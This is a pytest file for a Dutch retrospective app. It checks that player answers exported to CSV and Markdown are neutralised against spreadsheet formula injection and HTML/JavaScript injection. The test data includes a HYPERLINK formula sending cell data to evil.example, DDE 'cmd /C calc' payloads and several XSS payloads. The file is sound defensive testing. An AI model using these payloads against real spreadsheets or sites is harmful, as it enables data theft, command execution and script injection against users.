"""What players type reaches the CSV and the Markdown: it must come out as text, never as a
formula for a spreadsheet or markup for whatever renders the minutes next."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient
from flask_babel import refresh
from markdown_it import MarkdownIt

from koerskaart.clock import aware
from koerskaart.engine import TableStatus
from koerskaart.extensions import db
from koerskaart.models import Table
from koerskaart.reports.exports import to_csv
from koerskaart.reports.summary import ActionItem, TeamSummary
from tests.helpers.hostile import played_with
from tests.helpers.users import log_in, make_user

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")  # OWASP's list, and ASVS's NUL


@pytest.fixture
def facilitator_client(app: Flask) -> FlaskClient:
    make_user("fac@oost.example", role="facilitator")
    return log_in(app, "fac@oost.example")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


# --- CSV: formula injection (OWASP) ------------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def test_no_csv_cell_starts_a_formula(app: Flask, facilitator_client: FlaskClient) -> None:
    actions = (("=Sam", "+Terugblik plannen", "-1 maart"), ("@Kim", "=WEBSERVICE(1)", "gewoon"))
    table_id = played_with(app, facilitator_client, FORMULAS, actions)
    rows = _cells(facilitator_client.get(f"/tables/{table_id}/summary.csv").data)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # Neutralised, not mangled: the text is all there behind the quote Excel hides.
    for typed in [*FORMULAS, *(field for action in actions for field in action)]:
        assert typed in cells or "'" + typed in cells, typed
    assert "'=1+1" in cells and "gewoon" in cells  # only what needs it gets the quote
    # Numbers stay numbers: the first card's first row still counts 2 with a median of 3,0.
    assert rows[1][4] == "2" and rows[1][6] == "3,0"


def test_tabs_carriage_returns_and_nul_at_the_start_are_neutralised_too() -> None:
    """The engine turns tabs and line breaks inside answers into spaces; the exporter does not rely on it."""
    moment = datetime(2026, 3, 1, 10, tzinfo=UTC)
    summary = TeamSummary("Deck", TableStatus.ENDED, moment, moment, players=5, k=3)
    summary.actions = [ActionItem("\tKim", "\r=1+1", "\0x")]
    cells = [cell for row in _cells(to_csv(summary, str, {})) for cell in row]
    assert {"'\tKim", "'\r=1+1", "'\0x"} == {c for c in cells if c.startswith("'")}


# --- headers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("md", "text/markdown; charset=utf-8"),
        ("pdf", "application/pdf"),
    ],
)
def test_each_download_names_its_type_and_charset_once(
    app: Flask, facilitator_client: FlaskClient, fmt: str, content_type: str
) -> None:
    table_id = played_with(app, facilitator_client, ["een", "twee", "drie", "vier", "vijf"])
    response = facilitator_client.get(f"/tables/{table_id}/summary.{fmt}")
    assert response.headers["Content-Type"] == content_type
    assert response.headers["Content-Disposition"].startswith("attachment; ")


# --- Markdown: no markup from what people typed -----------------------------------------------------------

HOSTILE_TEXTS = [
    "<script>alert('kk')</script>",
    "<img src=x onerror=alert(1)> & <svg onload=alert(2)>",
    "[klik hier](javascript:alert(3)) ![x](javascript:alert(4))",
    "<javascript:alert(5)> [ref] *nadruk* _ook_ `code` ~~weg~~",
    '<a href="javascript:alert(6)">a</a> &lt;b&gt; \\<i>',
]
HOSTILE_ACTIONS = (
    ("[ref]: javascript:alert(7)", "# Kop | en een cel | <b onmouseover=alert(8)>", "1. maart"),
    ("- lijst", "<!-- verberg de rest", "+ ook"),
)
HOSTILE_TEAM = "<img src=x onerror=alert(9)>"


class _Rendered(HTMLParser):
    """What a browser would make of the HTML: its elements, their attributes, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.tags.append("<!--")

    def handle_data(self, data: str) -> None:
        self.text += data


def _hostile_renderer() -> MarkdownIt:
    """A downstream renderer that trusts its input: raw HTML on, tables on, every link scheme allowed."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md


def test_markdown_carries_no_markup_from_players_to_the_next_renderer(
    app: Flask, facilitator_client: FlaskClient
) -> None:
    table_id = played_with(app, facilitator_client, HOSTILE_TEXTS, HOSTILE_ACTIONS, team=HOSTILE_TEAM)
    markdown = facilitator_client.get(f"/tables/{table_id}/summary.md").get_data(as_text=True)
    assert "<" not in markdown and ">" not in markdown  # nothing in it a renderer reads as a tag
    page = _Rendered()
    page.feed(_hostile_renderer().render(markdown))
    assert set(page.tags) <= {
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    assert {name for name, _value in page.attrs} <= {"style"}  # markdown-it aligns columns with style
    # Shown as typed: every hostile text is there as visible text, character for character.
    typed = [*HOSTILE_TEXTS, *(field for action in HOSTILE_ACTIONS for field in action), HOSTILE_TEAM]
    for text in typed:
        assert text in page.text, text
    assert "javascript:" not in "".join(value for _name, value in page.attrs)


def test_markdown_counts_in_words_with_proper_plurals(app: Flask, facilitator_client: FlaskClient) -> None:
    table_id = played_with(app, facilitator_client, ["een", "twee", "drie", "vier", "vijf"])
    table = db.session.execute(db.select(Table).filter_by(public_id=table_id)).scalar_one()
    table.ended_at = aware(table.created_at) + timedelta(seconds=65)  # a table of one minute
    db.session.commit()
    dutch = facilitator_client.get(f"/tables/{table_id}/summary.md").get_data(as_text=True)
    assert "Duur: 1 minuut." in dutch and "5 spelers" in dutch
    facilitator_client.get("/lang/en?next=/")  # the language switch, as a person uses it
    refresh()  # the test's app context is shared by its requests, and Flask-Babel caches the locale there
    english = facilitator_client.get(f"/tables/{table_id}/summary.md").get_data(as_text=True)
    assert "Duration: 1 minute." in english and "5 players" in english
    assert "5 answers." in english
